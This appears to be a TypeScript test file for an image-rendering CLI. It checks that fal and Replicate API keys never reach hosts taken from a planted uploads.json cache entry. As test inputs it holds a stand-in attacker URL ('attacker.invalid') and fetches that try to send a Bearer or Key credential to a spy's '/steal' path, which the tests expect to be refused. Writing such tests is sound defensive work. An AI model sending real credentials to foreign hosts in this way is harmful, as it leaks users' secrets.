// A key goes only to its provider's API host or the configured base URL — never to a URL read from a
// file, a cache or a response. Attacked here with a planted .dailies/uploads.json (the file is in the
// project folder: anyone who can commit to the repo can write it) whose URL points at a second loopback
// server that records what it gets. Also: fal behind fal's own server proxy, with no key on the laptop.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import { after, afterEach, before, describe, it } from 'node:test';
import { resolveConfig } from '../../src/core/config';
import { FalProvider } from '../../src/core/providers/fal';
import { ReplicateProvider } from '../../src/core/providers/replicate';
import { type FalFake, startFalFake } from '../fakes/falFake';
import { type ReplicateFake, startReplicateFake } from '../fakes/replicateFake';
import { cloudEngine, FAL_KEY, REPLICATE_TOKEN } from '../helpers/cloud';
import { runCli } from '../helpers/runCli';
import { type Spy, startSpy } from '../helpers/spy';
import { createProject, type TempProject } from '../helpers/tempProject';

const FAST = { stepMs: 2, steps: 2, queueMs: 2 };
let fal: FalFake;
let replicate: ReplicateFake;
let spy: Spy;
const temp: TempProject[] = [];

before(async () => {
  fal = await startFalFake({ ...FAST, apiKey: FAL_KEY });
  replicate = await startReplicateFake({ ...FAST, apiKey: REPLICATE_TOKEN, maxPreferWaitMs: 10 });
  spy = await startSpy();
});
after(async () => {
  await fal.close();
  await replicate.close();
  await spy.close();
});
afterEach(async () => {
  fal.reset();
  replicate.reset();
  spy.reset();
  while (temp.length) await temp.pop()!.cleanup();
});

/** A one-shot project whose only ref already has a "cached upload" in uploads.json, pointing at `url`. */
async function plantedProject(model: string, provider: 'fal' | 'replicate', url: string) {
  const p = await createProject(
    { dailies: 1, shots: [{ id: 'a', prompt: 'planted', model, refs: ['r.png'] }] },
    { 'r.png': { color: '#123456' } },
  );
  temp.push(p);
  const bytes = await fs.readFile(path.join(p.dir, 'r.png'));
  const sha256 = createHash('sha256').update(bytes).digest('hex');
  await fs.mkdir(path.join(p.dir, '.dailies'), { recursive: true });
  const now = Date.now();
  const entry = {
    provider,
    sha256,
    size: bytes.length,
    url,
    uploadedAt: now,
    expiresAt: now + 20 * 3600_000,
  };
  await fs.writeFile(
    path.join(p.dir, '.dailies', 'uploads.json'),
    JSON.stringify({ version: 1, entries: [entry] }),
  );
  return p;
}

describe('a planted uploads.json entry', () => {
  it('Replicate: the token never reaches the planted host, which is not sent to the model either', async () => {
    const planted = `${spy.origin}/v1/files/planted`;
    const p = await plantedProject('black-forest-labs/flux-kontext-pro', 'replicate', planted);
    const rig = cloudEngine(p.file, { replicate });
    const s = await rig.engine.render();
    await rig.dispose();
    assert.ok(spy.untouched(), `the planted host was contacted: ${JSON.stringify(spy.requests)}`);
    assert.equal(s.shots.rendered, 1, JSON.stringify(s.errors));
    const inputs = [...replicate.jobs.values()].map((j) => JSON.stringify(j.input));
    assert.ok(inputs.length > 0 && inputs.every((i) => !i.includes(spy.origin)), inputs.join('\n'));
    assert.equal(replicate.count('files.create'), 1, 'the ref was uploaded again instead');
    const stored = await fs.readFile(path.join(p.dir, '.dailies', 'uploads.json'), 'utf8');
    assert.ok(!stored.includes(spy.origin), 'the planted entry was dropped from the file');
  });

  it('fal: the planted host is neither probed nor sent to the model', async () => {
    const planted = `${spy.origin}/files/planted.png`;
    const p = await plantedProject('fal-ai/flux-pro/kontext', 'fal', planted);
    const rig = cloudEngine(p.file, { fal });
    const s = await rig.engine.render();
    await rig.dispose();
    assert.ok(spy.untouched(), `the planted host was contacted: ${JSON.stringify(spy.requests)}`);
    assert.equal(s.shots.rendered, 1, JSON.stringify(s.errors));
    const inputs = [...fal.jobs.values()].map((j) => JSON.stringify(j.input));
    assert.ok(inputs.length > 0 && inputs.every((i) => !i.includes(spy.origin)), inputs.join('\n'));
    assert.equal(fal.count('upload.initiate'), 1);
  });

  it('an https URL on a host that is not the provider’s is dropped too (never validated with a key)', async () => {
    // Not contacted at all: there is no network here, and there must be no attempt either.
    const p = await plantedProject(
      'black-forest-labs/flux-kontext-pro',
      'replicate',
      'https://attacker.invalid/v1/files/x',
    );
    const rig = cloudEngine(p.file, { replicate });
    const s = await rig.engine.render();
    await rig.dispose();
    assert.equal(s.shots.rendered, 1, JSON.stringify(s.errors));
    assert.equal(replicate.count('files.create'), 1);
    assert.ok(
      [...replicate.jobs.values()].every((j) => !JSON.stringify(j.input).includes('attacker.invalid')),
    );
  });
});

describe('the one fetch both SDKs use refuses to carry a key anywhere else', () => {
  const config = () =>
    resolveConfig({
      baseUrls: { fal: fal.origin, replicate: replicate.origin },
      timeouts: { requestMs: 3000 },
    });

  it('Replicate: an Authorization header to a foreign host is refused before any connection', async () => {
    const provider = new ReplicateProvider({ key: REPLICATE_TOKEN, config: config() });
    await assert.rejects(
      provider.fetch(`${spy.origin}/steal`, { headers: { Authorization: `Bearer ${REPLICATE_TOKEN}` } }),
      /key/i,
    );
    const probe = await provider
      .validateUpload?.(`${spy.origin}/v1/files/x`, new AbortController().signal)
      .catch(() => false);
    assert.equal(probe, false);
    assert.ok(spy.untouched());
  });

  it('fal: the same for a `Key` credential', async () => {
    const provider = new FalProvider({ key: FAL_KEY, config: config() });
    await assert.rejects(
      provider.fetch(`${spy.origin}/steal`, { headers: { Authorization: `Key ${FAL_KEY}` } }),
      /key/i,
    );
    assert.ok(spy.untouched());
  });
});

describe('fal behind fal’s own server proxy (@fal-ai/server-proxy protocol)', () => {
  const SERVER_KEY = 'studio-server-key:kept-on-the-server';
  let proxied: FalFake;
  before(async () => {
    proxied = await startFalFake({
      ...FAST,
      apiKey: SERVER_KEY,
      serverProxy: { path: '/api/fal/proxy', falKey: SERVER_KEY },
    });
  });
  after(() => proxied.close());

  it('renders with no fal key on the laptop; the key is added by the proxy only', async () => {
    const p = await createProject(
      {
        dailies: 1,
        shots: [
          { id: 'a', prompt: 'with a ref', model: 'fal-ai/flux-pro/kontext', refs: ['r.png'] },
          { id: 'b', prompt: 'text only', model: 'fal-ai/flux/schnell' },
        ],
      },
      { 'r.png': { color: '#345678' } },
    );
    temp.push(p);
    const rig = cloudEngine(
      p.file,
      { fal: proxied },
      { baseUrls: { fal: `${proxied.origin}/api/fal/proxy` } },
      { replicate: REPLICATE_TOKEN },
    );
    const s = await rig.engine.render();
    await rig.dispose();
    assert.equal(s.shots.rendered, 2, JSON.stringify(s.errors));

    const hops = proxied.proxyRequests;
    assert.ok(hops.length > 0, 'API calls went through the proxy');
    for (const hop of hops) {
      assert.equal(hop.headers.authorization, undefined, `${hop.method} ${hop.path} carried a key`);
      assert.ok(hop.headers['x-fal-target-url']?.startsWith('https://'), 'fal’s target header');
    }
    const api = proxied.requests.filter((r) =>
      ['submit', 'status', 'result', 'upload.initiate'].includes(r.route),
    );
    assert.ok(api.some((r) => r.route === 'submit') && api.some((r) => r.route === 'upload.initiate'));
    for (const r of api) {
      assert.equal(r.headers.authorization, `Key ${SERVER_KEY}`, `${r.route} reached fal with the key`);
      assert.equal(r.headers['x-fal-client-proxy'], '@fal-ai/server-proxy/express');
    }
    // Signed upload PUTs and CDN downloads go straight to fal's storage, as fal's client does: the proxy
    // neither allows those hosts nor carries a binary body.
    assert.equal(proxied.count('upload.put'), 1);
    assert.ok(proxied.count('cdn') >= 2);
    assert.ok(hops.every((h) => !h.headers['x-fal-target-url']?.includes('fal.media')));
  });

  it('the CLI too: no FAL_KEY, DAILIES_FAL_URL pointing at the proxy', { timeout: 120_000 }, async () => {
    // Another process gets no test network: this proxy's fal serves its media on its own origin.
    const studio = await startFalFake({
      ...FAST,
      apiKey: SERVER_KEY,
      ownOriginMedia: true,
      serverProxy: { path: '/api/fal/proxy', falKey: SERVER_KEY },
    });
    try {
      const p = await createProject(
        {
          dailies: 1,
          shots: [{ id: 'a', prompt: 'cli', model: 'fal-ai/flux-pro/kontext', refs: ['r.png'] }],
        },
        { 'r.png': { color: '#456789' } },
      );
      temp.push(p);
      const run = await runCli(['render', p.file, '--json'], {
        DAILIES_FAL_URL: `${studio.origin}/api/fal/proxy`,
        DAILIES_POLL_MS: '10',
      });
      assert.equal(run.code, 0, run.stdout + run.stderr);
      assert.ok(studio.proxyRequests.length > 0);
      assert.ok(studio.proxyRequests.every((r) => r.headers.authorization === undefined));
      assert.equal(studio.count('submit'), 1);
    } finally {
      await studio.close();
    }
  });
});
